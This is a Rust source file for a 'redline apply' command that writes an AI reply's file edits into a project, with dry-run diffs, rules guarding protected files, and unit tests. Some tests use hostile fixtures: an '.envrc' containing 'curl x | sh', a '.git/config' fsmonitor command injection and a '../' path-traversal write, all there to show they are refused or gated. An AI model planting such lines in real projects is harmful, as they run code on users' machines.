//! `redline apply`: a whole reply applied to a folder without a window, each file exactly as
//! accepting every hunk of its proposal in the app would write it (the same engine), and the
//! unified diffs a dry run prints.

use std::cell::RefCell;
use std::collections::HashMap;

use redline_edits::{plan_reply, FileOutcome, FileStatus, FormatChoice, HunkState, Proposal};
use redline_project::{PathRule, ProjectRoot, ProtectedPaths};
use serde::Serialize;

use crate::diff::unified_diff;
use crate::engine::read_text;
use crate::rules::{change_rule, project_rules};
use crate::{Applied, Record, Status};

/// How `redline apply` runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ApplyOptions {
    /// Write nothing; fill each report's diff.
    pub dry_run: bool,
    /// Write protected files too (`.vscode/`, `.envrc`, hooks, …): the person said so.
    pub allow_protected: bool,
}

/// What became of one file of a reply: the plan's statuses (serialized lowercase for the CLI).
pub use redline_edits::FileStatus as ReportStatus;

/// Edit blocks and diff hunks of one file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
pub struct HunkCounts {
    /// Blocks of the reply for this file that found their place.
    pub applied: usize,
    /// Blocks that did not (any failed block leaves the whole file untouched).
    pub failed: usize,
    /// Changed regions between the file and its new text.
    pub changed: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileReport {
    /// The path as the reply wrote it (empty for a reply that could not be read at all).
    pub path: String,
    pub renamed_to: Option<String>,
    pub status: ReportStatus,
    pub error: Option<String>,
    pub hunks: HunkCounts,
    /// The changes as a unified diff; filled for dry runs.
    pub diff: String,
    /// The file had changed since the reply was planned and the edit was merged onto it.
    pub merged: bool,
}

/// Applies a whole reply to the files under `root`, each file exactly as accepting every hunk
/// of its proposal would. A file with any failed block, a path outside the root, a file that is
/// not UTF-8 or that conflicts is reported as failed and left exactly as it was; so is a path
/// the rules refuse (git's own files), and a protected one unless `allow_protected`. A dry run
/// writes nothing and fills each report's diff.
pub fn apply_reply(
    root: &ProjectRoot,
    reply: &str,
    format: FormatChoice,
    options: ApplyOptions,
) -> Vec<FileReport> {
    let read_errors: RefCell<HashMap<String, String>> = RefCell::default();
    let read = |path: &str| match read_text(root, path) {
        Ok(text) => text,
        Err(e) => {
            read_errors.borrow_mut().insert(path.to_string(), e.to_string());
            None
        }
    };
    let plan = plan_reply(reply, format, &read);
    let read_errors = read_errors.into_inner();
    let rules = project_rules(root);
    plan.into_iter()
        .map(|outcome| {
            if let Some(message) = read_errors.get(&outcome.path) {
                return failed_report(&outcome, message.clone());
            }
            if let Some(message) = not_allowed(root, &rules, &outcome, options.allow_protected) {
                return failed_report(&outcome, message);
            }
            if options.dry_run {
                planned_report(&outcome)
            } else {
                apply_outcome(root, &outcome)
            }
        })
        .collect()
}

/// Why the rules keep `outcome` from being written, if they do.
fn not_allowed(
    root: &ProjectRoot,
    rules: &ProtectedPaths,
    outcome: &FileOutcome,
    allow_protected: bool,
) -> Option<String> {
    match change_rule(root, rules, &outcome.path, outcome.renamed_to.as_deref()) {
        PathRule::Editable => None,
        PathRule::Refused(message) => Some(message),
        PathRule::Protected(_) if allow_protected => None,
        PathRule::Protected(why) => Some(format!(
            "{} is protected ({why}), so it was not written; check the change and pass --allow-protected to write it",
            outcome.renamed_to.as_deref().unwrap_or(&outcome.path)
        )),
    }
}

fn counts(outcome: &FileOutcome) -> HunkCounts {
    HunkCounts { applied: outcome.blocks_applied, failed: outcome.blocks_failed, changed: outcome.hunks }
}

fn failed_report(outcome: &FileOutcome, error: String) -> FileReport {
    FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: ReportStatus::Failed,
        error: Some(error),
        hunks: counts(outcome),
        diff: String::new(),
        merged: false,
    }
}

/// A failed block fails its whole file: writing the blocks that did match would leave a file
/// half-edited in a way nobody reviewed.
fn refused(outcome: &FileOutcome) -> Option<FileReport> {
    (outcome.status == FileStatus::Failed || outcome.blocks_failed > 0).then(|| {
        let error = outcome.error.clone().unwrap_or_else(|| "no edit could be applied".to_string());
        failed_report(outcome, error)
    })
}

fn base_of(outcome: &FileOutcome) -> &str {
    outcome.proposal.as_ref().map(|p| p.base_text.as_str()).unwrap_or_default()
}

fn planned_report(outcome: &FileOutcome) -> FileReport {
    if let Some(report) = refused(outcome) {
        return report;
    }
    let new_text = outcome.new_text.as_deref().unwrap_or_default();
    let (from, to) = match outcome.status {
        FileStatus::Created => ("/dev/null".to_string(), format!("b/{}", outcome.path)),
        FileStatus::Deleted => (format!("a/{}", outcome.path), "/dev/null".to_string()),
        _ => {
            let to = outcome.renamed_to.as_deref().unwrap_or(&outcome.path);
            (format!("a/{}", outcome.path), format!("b/{to}"))
        }
    };
    FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: outcome.status,
        error: None,
        hunks: counts(outcome),
        diff: unified_diff(&from, &to, base_of(outcome), new_text),
        merged: false,
    }
}

fn apply_outcome(root: &ProjectRoot, outcome: &FileOutcome) -> FileReport {
    if let Some(report) = refused(outcome) {
        return report;
    }
    let mut report = FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: outcome.status,
        error: None,
        hunks: counts(outcome),
        diff: String::new(),
        merged: false,
    };
    // Exactly what accepting every hunk of this file's proposal in the app does.
    let result = match outcome.proposal.as_ref().map(accept_all) {
        Some(record) if outcome.status != FileStatus::Unchanged => {
            crate::review::write_decided(root, &record)
        }
        _ => Ok(Applied::Unchanged),
    };
    match result {
        Ok(Applied::Written) => {}
        Ok(Applied::Merged) => report.merged = true,
        Ok(Applied::Unchanged) => report.status = ReportStatus::Unchanged,
        Ok(Applied::Conflict(c)) => {
            report.status = ReportStatus::Failed;
            report.error =
                Some(format!("{}: the file changed since the reply was written: {c}", outcome.path));
        }
        Err(e) => {
            report.status = ReportStatus::Failed;
            report.error = Some(e.to_string());
        }
    }
    report
}

/// The record of `proposal` with every hunk (and a pure rename) accepted.
fn accept_all(proposal: &Proposal) -> Record {
    let mut proposal = proposal.clone();
    proposal.hunks.iter_mut().for_each(|h| h.state = HunkState::Accepted);
    let mut record = Record::planned(0, &proposal.path.clone(), Some(proposal), None);
    record.status = Status::Reviewed;
    record
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::{project, read};
    use redline_edits::Format;

    #[test]
    fn reply_with_a_failed_block_leaves_that_file_untouched() {
        let (dir, root) = project(&[("a.txt", "one\ntwo\n"), ("b.txt", "x\n")]);
        let reply = "a.txt\n<<<<<<< SEARCH\none\n=======\n1\n>>>>>>> REPLACE\n\na.txt\n<<<<<<< SEARCH\nnope\n=======\n2\n>>>>>>> REPLACE\n\nb.txt\n<<<<<<< SEARCH\nx\n=======\ny\n>>>>>>> REPLACE\n";
        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert_eq!(reports[0].hunks.failed, 1);
        assert_eq!(read(&dir, "a.txt"), "one\ntwo\n");
        assert_eq!(reports[1].status, ReportStatus::Applied);
        assert_eq!(read(&dir, "b.txt"), "y\n");
    }

    #[test]
    fn path_outside_the_root_is_failed_and_never_written() {
        let (dir, root) = project(&[]);
        let reply = "../escape.txt\n<<<<<<< SEARCH\n=======\nhi\n>>>>>>> REPLACE\n";
        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert!(!dir.path().parent().expect("parent").join("escape.txt").exists());
    }

    #[test]
    fn dry_run_prints_a_diff_and_writes_nothing() {
        let (dir, root) = project(&[("f.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n")]);
        let reply = r#"[{"name":"edit_file","arguments":"{\"path\":\"f.txt\",\"old_text\":\"5\\n\",\"new_text\":\"five\\n\"}"}]"#;
        let reports = apply_reply(
            &root,
            reply,
            FormatChoice::Exact(Format::ToolCalls),
            ApplyOptions { dry_run: true, ..ApplyOptions::default() },
        );
        assert_eq!(reports[0].status, ReportStatus::Applied, "{reports:?}");
        assert_eq!(
            reports[0].diff,
            "--- a/f.txt\n+++ b/f.txt\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+five\n 6\n 7\n 8\n"
        );
        assert_eq!(read(&dir, "f.txt"), "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n");
    }

    const CREATE_ENVRC: &str =
        "[{\"name\":\"create_file\",\"arguments\":{\"path\":\".envrc\",\"content\":\"curl x | sh\\n\"}}]";

    #[test]
    fn git_files_are_refused_with_the_rule_and_never_written() {
        let (dir, root) = project(&[(".git/config", "[core]\n")]);
        let reply = ".git/config\n<<<<<<< SEARCH\n[core]\n=======\n[core]\n\tfsmonitor = touch /tmp/x\n>>>>>>> REPLACE\n";
        let options = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
        let reports = apply_reply(&root, reply, FormatChoice::Auto, options);
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert_eq!(reports[0].error.as_deref(), Some(redline_project::GIT_REFUSAL));
        assert_eq!(read(&dir, ".git/config"), "[core]\n");
    }

    #[test]
    fn protected_files_are_written_only_when_allowed() {
        let (dir, root) = project(&[]);
        let reports =
            apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), ApplyOptions::default());
        let error = reports[0].error.as_deref().unwrap_or_default();
        assert!(error.contains("--allow-protected") && error.contains("direnv"), "{reports:?}");
        assert!(!dir.path().join(".envrc").exists());
        let allowed = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
        let reports = apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), allowed);
        assert_eq!(reports[0].status, ReportStatus::Created, "{reports:?}");
        assert_eq!(read(&dir, ".envrc"), "curl x | sh\n");
    }

    #[test]
    fn unified_diff_marks_a_missing_final_newline() {
        let diff = unified_diff("a/f", "b/f", "x", "y");
        assert_eq!(diff, "--- a/f\n+++ b/f\n@@ -1,1 +1,1 @@\n-x\n\\ No newline at end of file\n+y\n\\ No newline at end of file\n");
    }

    #[test]
    fn a_rename_with_changes_is_written_under_the_new_name() {
        let (dir, root) = project(&[("old.txt", "a\nb\n")]);
        let reply = r#"[{"name":"rename_file","arguments":{"from":"old.txt","to":"new.txt"}},{"name":"edit_file","arguments":{"path":"old.txt","old_text":"b\n","new_text":"B\n"}}]"#;
        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
        assert_eq!(reports[0].status, ReportStatus::Renamed, "{reports:?}");
        assert!(!dir.path().join("old.txt").exists());
        assert_eq!(read(&dir, "new.txt"), "a\nB\n");
    }
}
